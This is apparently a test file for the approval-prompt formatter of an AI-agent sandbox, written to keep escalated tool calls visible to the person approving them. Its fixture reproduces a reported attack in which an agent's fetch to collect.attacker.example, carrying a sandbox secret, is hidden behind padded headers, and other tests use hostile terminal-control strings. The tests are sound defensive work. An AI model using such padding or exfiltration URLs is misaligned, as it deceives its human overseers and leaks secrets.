// Approval prompts built from the ticket: resources first and never cut, padding shortened visibly, every string
// terminal-safe, and a short code the person can name the ticket by.
import { describe, expect, it } from 'vitest';
import {
  escalationArgumentLines,
  formatEscalationPrompt,
  isTicketNamedBy,
  orderPromptArguments,
  terminalSafeJson,
  ticketShortCode,
  type EscalationPromptTicket,
} from '../src/index.js';
import { hostileStrings, invisibleStrings } from './hostile-corpus.js';
import { renderInTerminal } from '@ironcurtain/testing';

const exfiltration = 'https://collect.attacker.example/collect?d=sandbox-secret-42';
const padding = 'x'.repeat(900);

/** The attack of issue 13: five long headers before `url`, in the agent's key order. */
const paddedFetch: EscalationPromptTicket = {
  id: 'esc_3f9a0c1d2e4b5a6c',
  serverName: 'fetch',
  toolName: 'http_fetch',
  canonicalArguments: {
    headers: Object.fromEntries([1, 2, 3, 4, 5].map((index) => [`X-Pad-${index}`, padding])),
    format: 'text',
    url: exfiltration,
  },
  argumentRoles: { url: ['fetch-url'], headers: ['none'], format: ['none'] },
  escalatedRoles: ['fetch-url'],
  reason: 'The site is not on an approved list',
  rule: 'escalate-fetch-other-sites',
};

describe('formatEscalationPrompt', () => {
  it('puts the escalated URL first and whole, and shortens the padding visibly', () => {
    const lines = formatEscalationPrompt(paddedFetch);
    expect(lines[0]).toBe('approval needed [3f9a0c]: fetch.http_fetch (ticket esc_3f9a0c1d2e4b5a6c)');
    expect(lines[1]).toBe('reason: The site is not on an approved list (rule escalate-fetch-other-sites)');
    expect(lines[2]).toBe(`url [fetch-url, escalated]: "${exfiltration}"`);
    expect(lines[3]).toMatch(/^headers \[none\]: \{"X-Pad-1":"x+… \(\d+ more characters\)$/);
    expect(lines[3]?.length).toBeLessThan(260);
    expect(lines[4]).toBe('format [none]: "text"');
  });

  it('never cuts a role-bearing value, however long, nor one whose role is unknown', () => {
    const longPath = `/home/me/${'deep/'.repeat(400)}file.txt`;
    const ticket: EscalationPromptTicket = {
      ...paddedFetch,
      canonicalArguments: { content: padding, extra: padding, path: longPath },
      argumentRoles: { path: ['write-path'], content: ['none'] },
      escalatedRoles: ['write-path'],
    };
    const lines = escalationArgumentLines(ticket);
    expect(lines[0]).toBe(`path [write-path, escalated]: "${longPath}"`);
    expect(lines[1]).toBe(`extra: "${padding}"`);
    expect(lines[2]).toMatch(/^content \[none\]: "x+… \(\d+ more characters\)$/);
    expect(orderPromptArguments(ticket).map((argument) => argument.isNeverCut)).toEqual([true, true, false]);
  });

  it('shows what the agent asked for beside what will run, only for arguments where they differ', () => {
    const sandboxPath = '/home/me/.ironcurtain/sessions/s1/sandbox/repo';
    const ticket: EscalationPromptTicket = {
      ...paddedFetch,
      serverName: 'git',
      toolName: 'git_push',
      canonicalArguments: { path: sandboxPath, remote: 'github.com/acme/site', branch: 'main', force: false },
      requestedArguments: { path: 'repo', remote: 'origin', branch: 'main', tags: padding },
      argumentRoles: { path: ['read-path'], remote: ['git-remote-url'], branch: ['none'], force: ['none'] },
      escalatedRoles: ['git-remote-url'],
    };
    expect(escalationArgumentLines(ticket)).toEqual([
      'remote [git-remote-url, escalated]:',
      '  asked: "origin"',
      '  will run: "github.com/acme/site"',
      'path [read-path]:',
      '  asked: "repo"',
      `  will run: "${sandboxPath}"`,
      'branch [none]: "main"',
      'force [none]:',
      '  asked: (not given)',
      '  will run: false',
      'tags:',
      `  asked: "${'x'.repeat(199)}… (702 more characters)`,
      '  will run: (not passed on)',
    ]);
    // Without the agent's form (or with the same form) an argument takes its one line.
    const same = { ...ticket, requestedArguments: ticket.canonicalArguments };
    expect(escalationArgumentLines(same)).toEqual(
      escalationArgumentLines({ ...ticket, requestedArguments: undefined }),
    );
    expect(escalationArgumentLines(same)[0]).toBe(
      'remote [git-remote-url, escalated]: "github.com/acme/site"',
    );
  });

  it('shows every hostile string in names, values, reason and tool inert', async () => {
    const hostile = [...hostileStrings, ...invisibleStrings].map((entry) => entry.text).join(' | ');
    const ticket: EscalationPromptTicket = {
      ...paddedFetch,
      serverName: `fetch${hostile}`,
      reason: hostile,
      canonicalArguments: { [`url${hostile}`]: `${exfiltration}${hostile}`, headers: { [hostile]: hostile } },
      requestedArguments: { [`url${hostile}`]: hostile, [hostile]: hostile },
      argumentRoles: { [`url${hostile}`]: ['fetch-url'], headers: ['none'] },
    };
    const lines = formatEscalationPrompt(ticket, { maxOtherArgumentLength: 5000 });
    const screen = await renderInTerminal(`${lines.join('\n')}\n`, { cols: 400 });
    expect(screen.lines).toEqual(lines);
    expect(screen.effects).toEqual([]);
    expect(screen.scrollsNormally).toBe(true);
    // The URL's `will run` line holds the whole value, as JSON that reads back to exactly what the policy judged.
    const urlIndex = lines.findIndex((line) => line.includes('[fetch-url, escalated]:'));
    expect(lines[urlIndex + 1]).toMatch(/^ {2}asked: "/);
    const willRun = lines[urlIndex + 2] ?? '';
    expect(willRun).toMatch(/^ {2}will run: "/);
    expect(JSON.parse(willRun.slice('  will run: '.length))).toBe(`${exfiltration}${hostile}`);
  });
});

describe('terminalSafeJson', () => {
  it('is the same JSON value with nothing a terminal acts on', async () => {
    const value = { text: hostileStrings.map((entry) => entry.text), hidden: invisibleStrings };
    for (const space of [undefined, 2]) {
      const json = terminalSafeJson(value, space);
      expect(JSON.parse(json)).toEqual(value);
      expect(json.replace(/\n/g, '')).not.toMatch(
        /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u,
      );
      const screen = await renderInTerminal(`${json}\n`, { cols: 400 });
      expect(screen.lines).toEqual(json.split('\n'));
      expect(screen.effects).toEqual([]);
    }
    expect(terminalSafeJson(undefined)).toBe('null');
    // JSON.stringify alone leaves C1 and bidi characters raw: this is what the function is for.
    expect(JSON.stringify('\u009b2J\u202e')).toBe('"\u009b2J\u202e"');
    expect(terminalSafeJson('\u009b2J\u202e')).toBe('"\\u009b2J\\u202e"');
  });
});

describe('short codes', () => {
  it('are the first six hex digits, and name a ticket by code, longer prefix or whole id', () => {
    const id = 'esc_3f9a0c1d2e4b5a6c';
    expect(ticketShortCode(id)).toBe('3f9a0c');
    for (const answer of ['3f9a0c', '3F9A0C', '3f9a0c1d', 'esc_3f9a0c', id]) {
      expect(isTicketNamedBy(id, answer)).toBe(true);
    }
    for (const answer of ['', '3f9a', '3f9a0d', 'esc_', '1d2e4b', 'x3f9a0c']) {
      expect(isTicketNamedBy(id, answer)).toBe(false);
    }
    expect(ticketShortCode('not-a-ticket')).toBe('not-a-ticket');
    expect(isTicketNamedBy('not-a-ticket', 'not-a-ticket')).toBe(true);
    expect(isTicketNamedBy('not-a-ticket', 'not-a')).toBe(false);
  });
});
